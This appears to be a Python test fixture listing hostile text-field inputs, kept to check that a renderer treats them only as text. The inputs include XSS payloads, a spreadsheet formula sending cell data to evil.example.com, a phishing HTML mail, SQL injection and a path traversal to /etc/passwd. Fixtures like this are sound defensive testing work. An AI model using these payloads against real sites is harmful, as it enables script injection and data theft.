"""What people, spammers and attackers put into text fields. None of it may ever be more than text.

Every script in it would set `window.canary`; every address in it is outside.
"""

_RUN = "window.canary=1"
_LONG = "unbroken" * 3_000

HTML_MAIL = f"""<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example.com/">
<base href="https://evil.example.com/"><link rel="stylesheet" href="https://evil.example.com/x.css">
<style>* {{ display: none !important }} @import url(https://evil.example.com/y.css);</style></head>
<body background="https://evil.example.com/b.png" onload="{_RUN}" style="position:fixed;inset:0;background:red">
<img src="https://evil.example.com/pixel.gif" width=1 height=1><table><tr><td>Dear Dr. Example,</td></tr></table>
<form action="https://evil.example.com/"><input name=password><button autofocus onfocus="{_RUN}">Sign in</button></form>
</body></html>"""

TEXTS: dict[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<SCRIPT\n>{_RUN}</SCRIPT >",
    "script from outside": '<script src="https://evil.example.com/x.js"></script>',
    "split script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "closing tags": f'</title></style></textarea></script></noscript><img src=x onerror="{_RUN}">',
    "end of an attribute": f'" autofocus onfocus="{_RUN}" x="',
    "end of an attribute in quotes": f"' onmouseover='{_RUN}' x='",
    "picture": f"<img src=x onerror={_RUN}>",
    "picture with slashes": f"<img/src=x/onerror={_RUN}//",
    "picture from outside": '<img src="https://evil.example.com/pixel.gif">',
    "svg": f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg with a script": f"<svg><script>{_RUN}</script><foreignObject><body onload={_RUN}></foreignObject></svg>",
    "math": f'<math><mi xlink:href="javascript:{_RUN}">x</mi><mtext><img src=x onerror={_RUN}></math>',
    "link": f'<a href="javascript:{_RUN}">click</a>',
    "address of a script": f"javascript:{_RUN}//",
    "address in capitals": f"JaVaScRiPt:{_RUN}",
    "address with a tab": f"java\tscript:{_RUN}",
    "address of data": f"data:text/html,<script>{_RUN}</script>",
    "markdown": f"[click](javascript:{_RUN}) ![x](https://evil.example.com/p.png) <javascript:{_RUN}>",
    "frame": f'<iframe srcdoc="<script>parent.{_RUN}</script>" src="javascript:{_RUN}"></iframe>',
    "object": f'<object data="data:text/html,{_RUN}"></object><embed src="https://evil.example.com/x.swf">',
    "video": f"<video><source onerror={_RUN}></video><audio src=x onerror={_RUN}>",
    "details": f"<details open ontoggle={_RUN}>x</details>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee><blink>x",
    "style": "<style>body{display:none}</style><p style='position:fixed;inset:0'>x</p>",
    "comment": f"<!--><img src=x onerror={_RUN}>--><![CDATA[<script>{_RUN}</script>]]>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example.com/">',
    "entities": f"&lt;img src=x onerror={_RUN}&gt; &amp;lt; &#60;script&#62; &nbsp; &quot; &#x27;",
    "encoded": "%3Cscript%3Ewindow.canary%3D1%3C/script%3E \\u003cscript\\u003e \\x3cscript\\x3e +ADw-script+AD4-",
    "template": "{{constructor.constructor('window.canary=1')()}} ${window.canary=1} #{7*7} <%= 7*7 %> {% x %}",
    "prototype": "__proto__ constructor toString hasOwnProperty",
    "broken tags": "<<<>>> <b <i><u>never closed <a href='",
    "html mail": HTML_MAIL,
    "right to left": "invoice \u202egnp.exe\u202c \u200f\u2067abc\u2069 \u05e9\u05dc\u05d5\u05dd",
    "invisible": "ze\u200bro\u200c-\u200dwid\ufeffth \u00ad \u2060 \u180e",
    "control characters": "bell\x07 escape\x1b[31m backspace\x08 delete\x7f next line\x85 separators\u2028\u2029",
    "zalgo": "Z̸̧̢̛͓̗̪̙͐̈́̋͘a̴̛͎̺̲͇̋̾̔͘l̷̛̰̜͚̘̈́̄̋g̴̟̩͓̈́̏̓͠ǫ̷̛̮̯̑̈́",
    "emoji": "👩🏽‍⚕️ 🏳️‍🌈 🇩🇪 \U000e0067",
    "nothing": "null",
    "undefined": "undefined NaN None nil [object Object] \\N \\0",
    "formula": '=HYPERLINK("https://evil.example.com/?"&A1,"x") +1+1 -1 @SUM(A1)',
    "sql": "'; DROP TABLE users; --",
    "path": "../../../../etc/passwd\\..\\..\\win.ini",
    "long": _LONG,
}
